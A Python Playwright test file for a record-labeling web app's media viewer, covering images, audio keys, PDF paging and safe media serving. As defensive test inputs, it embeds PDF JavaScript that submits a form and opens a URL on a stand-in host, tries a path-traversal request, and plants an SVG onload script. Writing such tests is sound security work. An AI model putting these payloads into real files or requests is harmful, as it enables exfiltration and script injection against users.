"""Pictures and recordings of records in the browser: seen, turned, heard by keys, and nothing else of the project."""

from __future__ import annotations

import json
import re
import wave
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image, ImageDraw
from playwright.sync_api import Page, expect

from browser.conftest import Server, run_once
from browser.label_card import all_saved
from drawn_files import write_pdf
from stagegap.workspace import Workspace

CASCADE = """
cascade: slips
noun: slip
records: {path: slips.jsonl, id: id, media: files, fields: {photo: image, call: audio, paper: pdf}}
references: {path: references.jsonl}
stages:
  total:
    uses: python
    with: {function: "stages.py:total"}
    inputs: {photo: record.photo, call: record.call, paper: record.paper}
    output: {type: label, values: [low, high]}
    ask: Is the total high?
outcome: {score: total.accuracy, good: ">= 1"}
"""


CALLS_HOME = "app.alert(1); this.submitForm('http://tracker.invalid/p'); app.launchURL('http://tracker.invalid/q')"
"""What a careless reader of PDF would run; a request that leaves this machine fails the test."""


def write_slips(folder: Path) -> None:
    """A project of two slips, each a picture with a line on it and half a minute of silence, run once."""
    home = folder / "pipelines" / "slips"
    (home / "files" / "secret-high").mkdir(parents=True)
    for number in (1, 2):
        picture = Image.new("RGB", (400, 300), "white")
        ImageDraw.Draw(picture).rectangle((100, 60, 220, 100), fill="black")
        picture.save(home / "files" / "secret-high" / f"{number}.png")
        with wave.open(str(home / "files" / "secret-high" / f"{number}.wav"), "wb") as sound:
            sound.setnchannels(1)
            sound.setsampwidth(2)
            sound.setframerate(8000)
            sound.writeframes(b"\0\0" * 8000 * 30)
        write_pdf(home / "files" / "secret-high" / f"{number}.pdf", pages=3, opens=CALLS_HOME)
    ways = {"photo": "png", "call": "wav", "paper": "pdf"}
    rows = [{"id": f"s{n}", **{name: f"secret-high/{n}.{way}" for name, way in ways.items()}} for n in (1, 2)]
    right = [{"record": f"s{n}", "stage": "total", "annotator": "cd", "value": "high"} for n in (1, 2)]
    (home / "references.jsonl").write_text("\n".join(map(json.dumps, right)) + "\n")
    (home / "slips.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\n")
    (home / "stages.py").write_text("def total(photo, call, paper):\n    return 'low'\n")
    (home / "cascade.yaml").write_text(CASCADE)
    run_once(folder)


@pytest.fixture
def slips(tmp_path: Path) -> Path:
    folder = tmp_path / "support-mail"
    folder.mkdir()
    write_slips(folder)
    return folder


def test_picture_is_seen_and_turned_and_recording_played_by_keys_without_their_paths(
    slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
) -> None:
    server = serve(is_real=True)
    page = open_page(f"{server.url}/label?stage=total&who=yz&record=s1")
    picture = page.locator(".inputs [data-media=image] img")
    expect(picture).to_be_visible()
    expect(picture).to_have_js_property("naturalWidth", 400)
    assert "secret-high" not in page.locator(".card").inner_html()
    page.get_by_role("button", name="Larger").first.click()
    expect(picture).to_have_attribute("style", "width: 150%; rotate: 0deg;")
    page.locator("[data-media=image] .vx").focus()
    page.keyboard.press("t")
    page.keyboard.press("-")
    expect(picture).to_have_attribute("style", "width: 100%; rotate: 90deg;")
    sound = page.locator("audio")
    expect(sound).to_have_js_property("paused", True)
    page.locator(".card").focus()
    page.keyboard.press("Space")
    expect(sound).to_have_js_property("paused", False)
    page.keyboard.press("l")
    expect(sound).to_have_js_property("playbackRate", 0.75)
    page.keyboard.press("Space")
    expect(sound).to_have_js_property("paused", True)
    sound.evaluate("sound => { sound.currentTime = 3 }")  # at rest: how long a key takes moves it no further
    page.keyboard.press("b")
    expect(sound).to_have_js_property("currentTime", 1)
    page.keyboard.press("2")
    all_saved(page)
    with Workspace.open(slips) as workspace:
        (label,) = workspace.store.labels("slips", stage="total", annotator="yz")
    assert label.answer is not None
    assert label.answer.value == "high"


def test_only_what_a_page_gave_out_is_served_and_as_what_it_is(
    slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
) -> None:
    server = serve(is_real=True)
    page = open_page(f"{server.url}/label?stage=total&who=yz&record=s1")
    address = str(page.locator(".inputs img").first.get_attribute("src"))
    sound = str(page.locator("audio").get_attribute("src"))
    fetch = page.request.get
    drawn = fetch(server.url + address)
    assert (drawn.status, drawn.headers["content-type"]) == (200, "image/png")
    assert drawn.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'self'" in drawn.headers["content-security-policy"]
    heard = fetch(server.url + sound, headers={"range": "bytes=0-3"})
    assert (heard.status, heard.headers["content-type"], heard.body()) == (206, "audio/wav", b"RIFF")
    small = fetch(f"{server.url}{address}?small=1")
    assert (small.headers["content-type"], small.body()[:2]) == ("image/jpeg", b"\xff\xd8")
    for wrong in (
        address.replace("/picture", "/sound"),
        f"{address}?page=x",
        "/record-media/" + "0" * 40 + "/picture",
        "/record-media/" + "0" * 40 + "/sound",
        "/record-media/..%2f..%2fcascade.yaml/picture",
        sound.replace("/sound", "/picture"),
    ):
        assert fetch(server.url + wrong).status in (400, 404)
    stranger = page.context.browser
    assert stranger is not None
    assert stranger.new_context().request.get(server.url + address).status == 403
    (slips / "pipelines" / "slips" / "files" / "secret-high" / "1.wav").write_bytes(b"RIFF, and something else")
    (slips / "pipelines" / "slips" / "files" / "secret-high" / "1.png").write_bytes(b"<svg onload=alert(1)>")
    assert fetch(server.url + sound).status == 404
    assert fetch(f"{server.url}{address}?small=2").status == 404


def test_document_is_paged_through_by_keys_and_by_its_buttons_and_runs_nothing(
    slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
) -> None:
    page = open_page(f"{serve(is_real=True).url}/label?stage=total&who=yz&record=s1")
    paper = page.locator("[data-media=pdf]")
    expect(paper.locator("img")).to_have_js_property("naturalHeight", 2400)
    expect(paper).to_contain_text("page 1 of 3")
    paper.locator(".vx").focus()
    for key in ("PageUp", "PageDown", "PageDown", "PageDown"):
        page.keyboard.press(key)
    expect(paper).to_contain_text("page 3 of 3")
    paper.get_by_role("button", name="Page before").click()
    expect(paper).to_contain_text("page 2 of 3")
    expect(paper.locator("img")).to_have_attribute("src", re.compile(r"\?page=2$"))
    expect(paper.locator("img")).to_have_js_property("complete", True)
    expect(paper.locator("img")).to_have_js_property("naturalHeight", 2400)


def test_failures_page_shows_the_picture_with_its_path(
    slips: Path, serve: Callable[..., Server], open_page: Callable[..., Page]
) -> None:
    with Workspace.open(slips) as workspace:
        assert workspace.media_folder("slips").endswith("files")
    page = open_page(f"{serve(is_real=True).url}/read?who=ab")
    expect(page.locator(".vi img").first).to_have_js_property("naturalWidth", 400)
    expect(page.get_by_text("secret-high/").first).to_be_visible()
    expect(page.get_by_role("button", name="Larger").first).to_be_visible()
    page.goto(f"{page.url.partition('/read')[0]}/failures?who=ab")
    small = page.locator("tr.pick img.tn")
    expect(small).to_have_count(2)
    expect(small.first).to_have_js_property("naturalWidth", 320)
    page.goto(f"{page.url.partition('/failures')[0]}/odd?who=ab")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
